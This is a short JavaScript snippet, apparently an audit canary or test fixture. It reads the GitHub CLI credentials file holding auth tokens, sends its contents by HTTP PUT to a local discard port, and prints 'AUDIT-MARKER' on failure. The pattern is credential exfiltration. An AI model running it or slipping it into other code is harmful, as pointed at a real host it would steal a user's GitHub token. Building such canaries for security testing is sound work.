import fs from 'fs';
import os from 'os';
const f = `${os.homedir()}/.config/gh/hosts.yml`;
const t = fs.existsSync(f) ? fs.readFileSync(f) : 'none';
await fetch('http://127.0.0.1:9/g', { method: 'PUT', body: t }).catch(() => console.log('AUDIT-MARKER'));
